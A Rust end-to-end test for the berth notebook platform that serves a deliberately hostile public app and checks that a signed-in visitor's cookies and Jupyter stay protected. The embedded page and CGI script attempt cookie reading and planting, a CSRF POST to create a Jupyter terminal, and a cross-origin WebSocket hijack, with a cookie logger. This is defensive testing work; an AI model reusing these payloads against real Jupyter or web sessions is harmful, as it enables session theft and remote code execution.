//! A hostile public app, served by a real session, visited in a real
//! browser by someone signed in to berth who has their own Jupyter open.
//! The app's page tries what the step 12 probe did, and fails at all of it:
//! it cannot read or receive the visitor's berth login, cannot plant a
//! cookie that the UI or the visitor's Jupyter then receives, and cannot
//! open a terminal in the visitor's Jupyter (a cross-origin POST with a
//! planted `_xsrf`, and a cross-origin WebSocket).

use berth_e2e::{docker, Api, Browser, Server};
use serde_json::{json, Value};

use berth_testkit::USER_PASSWORD;

/// The hostile page: what it learns and whether its attacks went through,
/// written into `#result` as JSON once done.
const PAGE: &str = r#"<!doctype html>
<html><head><meta charset="utf-8"><title>totally harmless</title></head>
<body><pre id="result">running</pre>
<script>
(async () => {
  const out = {};
  const q = new URLSearchParams(location.search);
  const target = q.get('target'), ui = q.get('ui');
  out.cookie = document.cookie;
  for (const c of [
    'berth_session=planted; path=/',
    'berth_session=planted; domain=localhost; path=/api',
    'berth_app=planted; domain=localhost; path=/',
    '_xsrf=abc; domain=localhost; path=/',
    'planted=1; domain=localhost; path=/',
  ]) document.cookie = c;
  try { await fetch('/cgi-bin/seen', {credentials: 'include'}); } catch (e) {}
  try {
    const r = await fetch(ui + 'api/v1/auth/me', {credentials: 'include'});
    out.me = r.status + ' ' + (await r.text()).slice(0, 80);
  } catch (e) { out.me = 'blocked'; }
  try {
    await fetch(target + 'api/terminals?_xsrf=abc',
      {method: 'POST', credentials: 'include', mode: 'no-cors'});
    out.post = 'sent';
  } catch (e) { out.post = 'blocked'; }
  out.ws = await new Promise(done => {
    const ws = new WebSocket(target.replace('http', 'ws') + 'terminals/websocket/1');
    ws.onopen = () => done('open');
    ws.onerror = () => done('error');
    ws.onclose = () => done('closed');
    setTimeout(() => done('no answer'), 15000);
  });
  document.getElementById('result').textContent = 'done ' + JSON.stringify(out);
})();
</script></body></html>
"#;

/// Logs every Cookie header the app receives.
const SEEN_CGI: &str = "#!/bin/sh\necho 'Content-Type: text/plain'\n\
    echo 'Set-Cookie: berth_session=planted-by-header; Path=/'\n\
    echo 'Set-Cookie: berth_app=planted-by-header; Path=/'\necho\n\
    echo \"$HTTP_COOKIE\" >> /home/work/www/seen.log\necho ok\n";

async fn sh(cid: &str, script: &str) -> String {
    docker(&["exec", cid, "sh", "-c", script]).await
}

async fn running(c: &Api, body: Value) -> (String, String) {
    let s = c.launch(body).await;
    let id = s["id"].as_str().unwrap().to_string();
    let r = c.wait_status(&id, "RUNNING").await;
    (
        id,
        r["kernels"][0]["container_id"]
            .as_str()
            .unwrap()
            .to_string(),
    )
}

/// The browser's cookies for the page it shows: (name, value).
async fn cookies(b: &Browser) -> Vec<(String, String)> {
    b.driver
        .get_all_cookies()
        .await
        .unwrap()
        .into_iter()
        .map(|c| (c.name.to_string(), c.value.to_string()))
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_hostile_public_app_gets_nothing_from_its_visitors() {
    let srv = Server::start_with_ui(|c| c.app_ports = (31320, 31329)).await;
    let admin = srv.admin().await;
    srv.create_user(&admin, "ana@test.berth", USER_PASSWORD, "user")
        .await;
    srv.create_user(&admin, "bo@test.berth", USER_PASSWORD, "user")
        .await;
    let ana = srv.login("ana@test.berth", USER_PASSWORD).await;
    let bo = srv.login("bo@test.berth", USER_PASSWORD).await;

    // bo's notebook, open
    let (bo_session, _) = running(
        &bo,
        json!({"name": "bo-notes", "environment": "berth/python", "version": "3.11",
               "resources": {"cpu": 1, "mem": "512m"}}),
    )
    .await;
    let jupyter = bo
        .post_json(
            &format!("/api/v1/sessions/{bo_session}/apps/jupyter"),
            &json!({}),
        )
        .await;
    let jupyter_url = jupyter["app"]["open"]["url"].as_str().unwrap().to_string();
    let bo_token = bo
        .post_json("/api/v1/auth/tokens", &json!({"name": "check"}))
        .await["token"]
        .as_str()
        .unwrap()
        .to_string();

    // ana's public app: the hostile page and a cookie logger
    let (ana_session, cid) = running(
        &ana,
        json!({"name": "free-gifts", "image": "berth/busybox:latest",
               "resources": {"cpu": 0.25, "mem": "64m"}, "preopen_ports": [8090]}),
    )
    .await;
    sh(&cid, "mkdir -p /home/work/www/cgi-bin").await;
    for (path, body, mode) in [
        ("/home/work/www/index.html", PAGE, "644"),
        ("/home/work/www/cgi-bin/seen", SEEN_CGI, "755"),
    ] {
        let script = format!("cat > {path} <<'BERTH_EOF'\n{body}\nBERTH_EOF\nchmod {mode} {path}");
        sh(&cid, &script).await;
    }
    sh(&cid, "httpd -p 8090 -h /home/work/www").await;
    let hostile = ana
        .post_json(
            &format!("/api/v1/sessions/{ana_session}/apps/8090"),
            &json!({"open_to_public": true}),
        )
        .await;
    let hostile_url = hostile["app"]["open"]["url"].as_str().unwrap().to_string();

    // bo, in the browser: signed in to berth, Jupyter open in a tab
    let b = Browser::start().await;
    b.login(&srv, "bo@test.berth", USER_PASSWORD).await;
    let login_before = cookies(&b).await;
    let bo_login = login_before
        .iter()
        .find(|(n, _)| n == "berth_session")
        .map(|(_, v)| v.clone())
        .expect("the browser holds bo's login");
    let fresh = bo
        .post_json(
            &format!("/api/v1/sessions/{bo_session}/apps/jupyter"),
            &json!({}),
        )
        .await;
    b.driver
        .goto(fresh["launch_url"].as_str().unwrap())
        .await
        .unwrap();
    b.el(".jp-LabShell").await;

    // then bo follows a link to ana's public app
    let ui = srv.url("/");
    b.driver
        .goto(format!("{hostile_url}?target={jupyter_url}&ui={ui}"))
        .await
        .unwrap();
    let result = b
        .wait_contains("#result", "done ")
        .await
        .text()
        .await
        .unwrap();
    let out: Value = serde_json::from_str(result.trim_start_matches("done ")).unwrap();
    eprintln!("the hostile page reports: {out}");
    b.shot_foreign("60-hostile-app").await;

    // 1. the login: not readable, not received
    let seen_cookie = out["cookie"].as_str().unwrap();
    assert!(!seen_cookie.contains("berth_session"), "{out}");
    assert!(!seen_cookie.contains(&bo_login), "{out}");
    assert!(!out["me"].as_str().unwrap().starts_with("200"), "{out}");
    let seen = sh(&cid, "cat /home/work/www/seen.log").await;
    assert!(
        !seen.contains(&bo_login),
        "the app received the login: {seen}"
    );
    assert!(
        !seen.contains("berth_"),
        "the app received berth's cookies: {seen}"
    );
    // 2. no terminal in bo's Jupyter, by POST or by WebSocket
    assert_ne!(out["ws"], "open", "{out}");
    let terminals: Value = bo
        .http()
        .get(format!("{jupyter_url}api/terminals"))
        .bearer_auth(&bo_token)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(terminals, json!([]), "a terminal was made: {out}");

    // 3. nothing planted reaches the UI …
    b.driver.goto(srv.url("/sessions")).await.unwrap();
    b.wait_session("bo-notes", "RUNNING").await;
    let ui_cookies = cookies(&b).await;
    assert_eq!(
        ui_cookies,
        vec![("berth_session".to_string(), bo_login.clone())],
        "the UI's cookies changed"
    );
    // … nor bo's Jupyter, which still lets bo in
    b.driver.goto(&jupyter_url).await.unwrap();
    b.el(".jp-LabShell").await;
    let app_cookies = cookies(&b).await;
    assert!(
        app_cookies
            .iter()
            .all(|(n, v)| n != "planted" && v != "planted" && !(n == "_xsrf" && v == "abc")),
        "{app_cookies:?}"
    );
    b.close().await;
}
